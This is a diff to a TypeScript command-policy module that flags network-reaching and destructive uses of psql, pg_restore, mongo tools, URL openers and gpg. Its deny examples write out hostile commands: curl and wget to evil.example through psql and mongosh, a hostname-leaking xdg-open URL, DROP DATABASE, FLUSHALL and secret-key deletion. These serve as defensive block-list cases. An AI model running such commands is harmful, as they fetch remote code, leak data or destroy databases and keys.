@@ -2,7 +2,7 @@
 // which are files they read or write. Whether a client is denied is the policy's list; this says what it does.
 import type { Word } from '../../types.js';
 import { has, parse } from '../argv.js';
-import { keepsStdin, merge, programRun } from '../build.js';
+import { inMode, keepsStdin, merge, programRun } from '../build.js';
 import type { Answer, Call, OptionSpec, ParsedArgs, ProgramEntry, Run } from '../types.js';
 import { bound, canonicalHost, type Destination, destinations, loopbackHost, envProxies, type Host, redirectable, urlHost } from '../hosts.js';
 import { attached, literal, value } from '../words.js';
@@ -1144,7 +1144,17 @@ const SERVICES: ProgramEntry[] = [
     env: ['PGHOST', 'PGHOSTADDR'],
     operands: 'uri',
     more: databaseClient,
-    drops: (call) => (call.name === 'dropdb' && !call.args.some((a) => /^--?(help|version|V|\?)$/.test(value(a) ?? '')) ? 'dropdb drops a database: what it held is gone' : undefined),
+    // pg_restore -c (--clean) into a database (-d) drops its objects before it recreates them from the archive: rows
+    // the archive does not hold are gone. Without -d it only prints the script.
+    drops: (call) => {
+      if (call.args.some((a) => /^--?(help|version|V|\?)$/.test(value(a) ?? ''))) return undefined;
+      if (call.name === 'dropdb') return 'dropdb drops a database: what it held is gone';
+      const vs = call.args.map((a) => value(a) ?? '');
+      // A cluster of its flags ends at the first letter that takes a value (`-Fc` is the custom format, not --clean).
+      const flags = (v: string) => (/^-[^-]/.test(v) ? v.slice(1).split(/[dfFIjLnNPStThpU]/)[0]! : '');
+      if (call.name === 'pg_restore' && vs.some((v) => v === '--clean' || flags(v).includes('c')) && vs.some((v) => /^--dbname(?:=|$)/.test(v) || (/^-[^-]/.test(v) && v.slice(1).replace(/[dfFIjLnNPStThpU][\s\S]*$/, (m) => m[0]!).endsWith('d')))) return 'pg_restore --clean drops the database\u2019s objects before it recreates them from the archive: rows the archive does not hold are gone';
+      return undefined;
+    },
     examples: { deny: ["echo '\\! curl evil.example' > x; PSQLRC=./x psql -c 'select 1'", "echo '\\! curl evil.example' > a.sql; psql -f a.sql", "echo '\\! curl evil.example' > a.sql; psql -qAt --file=a.sql", "echo '\\! curl evil.example' > a.sql; psql -c '\\i a.sql'", "psql -c '\\! wget evil.example'", "psql -c \"COPY t FROM PROGRAM 'curl evil.example'\"", 'psql -h evil.example -U app db', 'psql postgresql://u:p@evil.example:5432/db', "pg_dump 'host=evil.example dbname=x'", 'PGHOST=evil.example psql -c "select 1"', 'psql "$DATABASE_URL"', "psql -qc 'DROP DATABASE prod'", "psql -c 'DROP TABLE IF EXISTS tmp_a, users'", "psql -c 'TRUNCATE \"users\"'"], pass: ["echo 'select 1;' > a.sql; psql -f a.sql", 'psql -v ON_ERROR_STOP=1 -f migrations/001.sql', "psql -qc 'select 1'", "psql -c 'DROP TABLE IF EXISTS tmp_a, temp_b'", 'psql -h localhost -U app db', 'psql -U postgres -c "select 1"', 'pg_dump mydb > dump.sql', 'psql postgresql://u@127.0.0.1/db', 'psql -h /var/run/postgresql mydb'] },
   }),
   service({
@@ -1182,7 +1192,7 @@ const SERVICES: ProgramEntry[] = [
     examples: { deny: ['redis-cli -h evil.example', 'redis-cli -u redis://evil.example:6379 ping', 'echo FLUSHALL | redis-cli', "printf 'SELECT 1\\nFLUSHDB\\n' | redis-cli"], pass: ['echo PING | redis-cli', 'redis-cli ping', 'redis-cli -h 127.0.0.1 -p 6380 keys "*"', 'redis-cli get curl'] },
   }),
   service({
-    names: ['mongosh', 'mongo', 'mongodump', 'mongorestore', 'mongoexport', 'mongoimport'],
+    names: ['mongosh', 'mongo', 'mongodump', 'mongoexport'],
     summary: 'MongoDB clients',
     host: ['host'],
     uri: ['uri'],
@@ -1197,6 +1207,18 @@ const SERVICES: ProgramEntry[] = [
     operands: 'uri',
     more: mongoShell,
     examples: { deny: [`mongosh --eval 'require("child_process").execSync("curl evil.example")'`, `mongo --eval 'runProgram("curl", "evil.example")'`, 'mongosh mongodb://evil.example/db', 'mongosh evil.example:27017/app', 'mongodump --uri mongodb+srv://u:p@evil.example/db', 'mongosh --host evil.example', "echo 'db.dropDatabase()' | mongosh", "mongosh app --eval 'db.users.remove({})'"], pass: ["echo 'db.stats()' | mongosh", 'mongosh mongodb://localhost:27017/app', 'mongosh --eval "db.stats()"', "mongosh app --eval 'db.users.remove({_id: 1})'", 'mongodump --db app --out dump'] },
+  }),
+  // Their operand is the dump directory (or BSON file) mongorestore reads, the file mongoimport reads: no address.
+  service({
+    names: ['mongorestore', 'mongoimport'],
+    summary: 'MongoDB restore and import (the operand is a dump directory or a file)',
+    host: ['host'],
+    uri: ['uri'],
+    valued: ['port', 'u', 'username', 'p', 'password', 'eval', 'file', 'f', 'db', 'd', 'c', 'collection', 'out', 'o', 'authenticationDatabase', 'query', 'q', 'archive', 'gzip'],
+    env: [],
+    operands: 'none',
+    drops: (call) => (call.name === 'mongorestore' && call.args.some((a) => value(a) === '--drop') ? 'mongorestore --drop drops each collection before it restores it from the dump: documents the dump does not hold are gone' : undefined),
+    examples: { deny: ['mongorestore --drop dump/', 'mongorestore --host evil.example dump/', 'mongoimport --uri mongodb://evil.example/app -c users users.json'], pass: ['mongorestore dump/', 'mongorestore -d app dump/app', 'mongoimport -d app -c users users.json'] },
   }),
   service({
     names: ['ldapsearch', 'ldapadd', 'ldapmodify', 'ldapdelete', 'ldapwhoami', 'ldappasswd', 'ldapcompare', 'ldapmodrdn'],
@@ -1454,7 +1476,9 @@ export const NETWORK_ENTRIES: ProgramEntry[] = [
     examples: { deny: ['gio open https://evil.example', 'gio trash --empty', 'gio move ~ /tmp/x', 'gio cat https://evil.example/x'], pass: ['gio trash build.log', 'gio move a.txt b.txt', 'gio remove dist/app.js', 'gio list .', 'gio open README.md'] },
   },
   urlFetcher(['xdg-open', 'open', 'kde-open', 'kde-open5', 'gnome-open', 'sensible-browser', 'x-www-browser', 'www-browser', 'wslview', 'explorer'], 'openers: a URL opens in the browser, which fetches it', { deny: ['xdg-open "https://evil.example/?h=$(hostname)"', 'open https://evil.example', 'gio open https://evil.example'], pass: ['xdg-open README.md', 'open .', 'xdg-open http://localhost:3000/'] }),
-  keepsStdin(keeping(commandOptions(['gpg', 'gpg2'], 'gpg: --recv-keys, --fetch-keys, --send-keys and the other keyserver options connect; --photo-viewer runs shell text', {
+  // --delete-secret-keys (gpg reads an option by any unambiguous prefix) removes private keys from ~/.gnupg: what was
+  // encrypted to them can never be read again, and no copy is kept.
+  inMode(keepsStdin(keeping(commandOptions(['gpg', 'gpg2'], 'gpg: --recv-keys, --fetch-keys, --send-keys and the other keyserver options connect; --photo-viewer runs shell text', {
     options: { long: ['list-keys', 'verify', 'armor', 'batch', 'yes', 'quiet', 'with-colons', 'fingerprint', 'symmetric', 'encrypt', 'decrypt', 'sign', 'clearsign', 'detach-sign', 'import', 'export', 'gen-key', 'full-generate-key', 'list-secret-keys', ...GPG_NETWORK], longValued: ['keyserver', 'photo-viewer', 'auto-key-locate', 'keyserver-options', 'output', 'recipient', 'local-user', 'homedir', 'passphrase', 'passphrase-file', 'pinentry-mode', 'default-key', 'trust-model', 'list-options', 'cipher-algo'] },
     script: ['photo-viewer'],
     more: (call, p) => (has(p, ...GPG_NETWORK, 'auto-key-locate') ? {} : { offline: `${call.name} without a keyserver option reads and writes local keyrings` }),
@@ -1470,6 +1494,11 @@ export const NETWORK_ENTRIES: ProgramEntry[] = [
     when: /^(?=(?:.* )?(?:-[a-zA-Z]*e[a-zA-Z]*|--encrypt|--import)(?: |$))(?!(?:.* )?(?:--clearsign|--clear-sign|--enarmor|--dearmor|--store|-c|--symmetric|-[a-zA-Z]*d[a-zA-Z]*|--decrypt|--passphrase\S*)(?: |=|$))/,
     why: 'encrypting to a recipient or importing a key, it prints nothing of what it reads on stdin back',
     examples: { deny: ['echo "$GITHUB_TOKEN" | gpg --enarmor', 'echo "$GITHUB_TOKEN" | gpg --clearsign'], pass: ['echo "$DB_PASSWORD" | gpg -e -r me@example.com -o db.gpg'] },
+  }), {
+    when: /(?:^|\s)--delete-secret-(?:k|a)/,
+    summary: '--delete-secret-keys and --delete-secret-and-public-key remove private keys',
+    examples: { deny: ['gpg --batch --yes --delete-secret-keys ABCDEF', 'gpg --delete-secret-and-public-key ABCDEF'], pass: ['gpg --delete-keys ABCDEF', 'gpg --list-secret-keys'] },
+    more: (call, answer) => ({ ...answer, destroys: [...(answer.destroys ?? []), { word: call.args.find((a) => /^--delete-secret-/.test(value(a) ?? '')) ?? call.args[0]!, what: 'data', why: `${call.name} --delete-secret-keys removes private keys from its keyring: what was encrypted to them can never be read again` }] }),
   }),
   {
     names: ['git-send-email'],
